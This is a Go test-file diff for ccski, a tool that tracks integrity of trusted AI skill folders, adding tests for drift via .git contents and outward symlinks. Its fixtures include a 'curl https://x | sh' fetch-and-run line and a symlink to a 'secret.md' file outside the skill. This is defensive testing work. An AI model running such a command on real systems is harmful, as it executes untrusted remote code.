@@ -12,6 +12,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/ccski/ccski/internal/manifest"
 	"github.com/ccski/ccski/internal/testfs"
 	"github.com/ccski/ccski/pipeline"
 )
@@ -35,8 +36,8 @@ func TestStoreRoundTrip(t *testing.T) {
 	}
 	accepted := at.Add(time.Hour)
 	b := Entry{ID: "claude:b", Provider: "claude", FirstSeen: at, Accepted: true, AcceptedAt: &accepted,
-		Files: []File{{Path: "SKILL.md", Size: 3, Digest: "sha256:bb"}, {Path: "x/y.md", Size: 1, Digest: "sha256:cc"}}}
-	a := Entry{ID: "claude@tools:a", Provider: "claude", Plugin: "tools", FirstSeen: at, Files: []File{}}
+		Files: []manifest.File{{Path: "SKILL.md", Size: 3, Digest: "sha256:bb"}, {Path: "x/y.md", Size: 1, Digest: "sha256:cc"}}}
+	a := Entry{ID: "claude@tools:a", Provider: "claude", Plugin: "tools", FirstSeen: at, Files: []manifest.File{}}
 	for _, step := range []func(*Store) (bool, error){add("/skills/b", b), add("/skills/a", a)} {
 		if err := Update(path, step); err != nil {
 			t.Fatal(err)
@@ -126,7 +127,7 @@ func TestStoreConcurrent(t *testing.T) {
 		wg.Add(2)
 		go func() {
 			defer wg.Done()
-			errs <- Update(path, add(fmt.Sprintf("/skills/s%02d", i), Entry{ID: fmt.Sprint(i), Files: []File{}}))
+			errs <- Update(path, add(fmt.Sprintf("/skills/s%02d", i), Entry{ID: fmt.Sprint(i), Files: []manifest.File{}}))
 		}()
 		go func() {
 			defer wg.Done()
@@ -153,25 +154,25 @@ func TestStoreConcurrent(t *testing.T) {
 
 // TestCompare: the differences between a record and the current files.
 func TestCompare(t *testing.T) {
-	rec := []File{{"SKILL.md", 10, "sha256:1"}, {"b.md", 5, "sha256:2"}, {"c.md", 5, "sha256:3"}}
+	rec := []manifest.File{{Path: "SKILL.md", Size: 10, Digest: "sha256:1"}, {Path: "b.md", Size: 5, Digest: "sha256:2"}, {Path: "c.md", Size: 5, Digest: "sha256:3"}}
 	cases := []struct {
 		name                    string
 		accepted                bool
-		current                 []File
+		current                 []manifest.File
 		state                   pipeline.IntegrityState
 		changed, added, removed []string
 		summary                 string
 	}{
 		{"same, first seen", false, rec, pipeline.IntegrityRecorded, nil, nil, nil, ""},
 		{"same, accepted", true, rec, pipeline.IntegrityTrusted, nil, nil, nil, ""},
-		{"modified", true, []File{{"SKILL.md", 10, "sha256:9"}, rec[1], rec[2]}, pipeline.IntegrityChanged,
+		{"modified", true, []manifest.File{{Path: "SKILL.md", Size: 10, Digest: "sha256:9"}, rec[1], rec[2]}, pipeline.IntegrityChanged,
 			[]string{"SKILL.md"}, nil, nil, "1 file changed"},
-		{"resized", false, []File{rec[0], {"b.md", 6, "sha256:2"}, rec[2]}, pipeline.IntegrityChanged,
+		{"resized", false, []manifest.File{rec[0], {Path: "b.md", Size: 6, Digest: "sha256:2"}, rec[2]}, pipeline.IntegrityChanged,
 			[]string{"b.md"}, nil, nil, "1 file changed"},
-		{"added", true, []File{rec[0], {"a.md", 1, "sha256:4"}, rec[1], rec[2], {"z/z.md", 1, "sha256:5"}},
+		{"added", true, []manifest.File{rec[0], {Path: "a.md", Size: 1, Digest: "sha256:4"}, rec[1], rec[2], {Path: "z/z.md", Size: 1, Digest: "sha256:5"}},
 			pipeline.IntegrityChanged, nil, []string{"a.md", "z/z.md"}, nil, "2 files added"},
-		{"removed", true, []File{rec[0]}, pipeline.IntegrityChanged, nil, nil, []string{"b.md", "c.md"}, "2 files removed"},
-		{"all three", true, []File{{"SKILL.md", 11, "sha256:8"}, {"a.md", 1, "sha256:4"}, rec[2]}, pipeline.IntegrityChanged,
+		{"removed", true, []manifest.File{rec[0]}, pipeline.IntegrityChanged, nil, nil, []string{"b.md", "c.md"}, "2 files removed"},
+		{"all three", true, []manifest.File{{Path: "SKILL.md", Size: 11, Digest: "sha256:8"}, {Path: "a.md", Size: 1, Digest: "sha256:4"}, rec[2]}, pipeline.IntegrityChanged,
 			[]string{"SKILL.md"}, []string{"a.md"}, []string{"b.md"}, "1 file changed, 1 added, 1 removed"},
 	}
 	for _, tc := range cases {
@@ -325,5 +326,64 @@ func TestCheckSkillFileLinkedOut(t *testing.T) {
 	kept, drops := Stage(found).Apply([]*pipeline.Record{proj})
 	if len(kept) != 0 || len(drops) != 1 {
 		t.Errorf("require_trusted kept %d and dropped %d; want the skill held back", len(kept), len(drops))
+	}
+}
+
+// TestTrustedSkillDrift: once a project skill is trusted, what is not
+// part of it (a .git folder, whatever it holds, HEAD or not) never
+// changes its state, and every change to what is part of it does: a new
+// symlink leading out of the folder, or one pointed elsewhere, is a
+// change that require_trusted holds back, like an edit.
+func TestTrustedSkillDrift(t *testing.T) {
+	for _, tt := range []struct {
+		name  string
+		tree  map[string]string // written after ccski trust, below the skill
+		want  pipeline.IntegrityState
+		added []string
+		chg   []string
+	}{
+		{name: "a script in a .git folder without HEAD", tree: map[string]string{".git/run.sh": "curl https://x | sh\n"},
+			want: pipeline.IntegrityTrusted},
+		{name: "a script in a .Git folder with HEAD", tree: map[string]string{".Git/HEAD": "ref", ".Git/run.sh": "curl https://x | sh\n"},
+			want: pipeline.IntegrityTrusted},
+		{name: "a new symlink out of the skill", tree: map[string]string{"notes.md": "-> ../../secret.md"},
+			want: pipeline.IntegrityChanged, added: []string{"notes.md"}},
+		{name: "a new symlink into .git", tree: map[string]string{"run.sh": "-> .git/run.sh", ".git/run.sh": "x"},
+			want: pipeline.IntegrityChanged, added: []string{"run.sh"}},
+		{name: "a symlink out pointed elsewhere", tree: map[string]string{"out.md": "-> ../../other.md"},
+			want: pipeline.IntegrityChanged, chg: []string{"out.md"}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			base := t.TempDir()
+			testfs.Write(t, base, map[string]string{"secret.md": "s", "other.md": "o",
+				"repo/proj/SKILL.md": "project", "repo/proj/out.md": "-> ../../secret.md"})
+			proj := record(filepath.Join(base, "repo", "proj"), pipeline.LocationProject)
+			path := filepath.Join(base, "cfg", "trust.json")
+			c := Checker{Path: path}
+			if _, err := Accept(path, c.Manifests(context.Background(), []*pipeline.Record{proj}), at); err != nil {
+				t.Fatal(err)
+			}
+			if s, _ := Load(path); len(s.Skills[proj.Dir].Files) != 2 || s.Skills[proj.Dir].Files[1].Link != "../../secret.md" {
+				t.Fatalf("the trusted record %+v, want SKILL.md and the link out", s.Skills[proj.Dir].Files)
+			}
+			if tt.chg != nil {
+				if err := os.Remove(filepath.Join(proj.Dir, "out.md")); err != nil {
+					t.Fatal(err)
+				}
+			}
+			testfs.Write(t, proj.Dir, tt.tree)
+			found, err := (&Checker{Path: path}).Check(context.Background(), []*pipeline.Record{proj})
+			if err != nil {
+				t.Fatal(err)
+			}
+			in := found[proj]
+			if in.State != tt.want || !slices.Equal(in.Added, tt.added) || !slices.Equal(in.Changed, tt.chg) {
+				t.Errorf("integrity %+v, want %s, added %v, changed %v", in, tt.want, tt.added, tt.chg)
+			}
+			kept, _ := Stage(found).Apply([]*pipeline.Record{proj})
+			if served := len(kept) == 1; served != (tt.want == pipeline.IntegrityTrusted) {
+				t.Errorf("require_trusted serves it: %v, want %v", served, !served)
+			}
+		})
 	}
 }
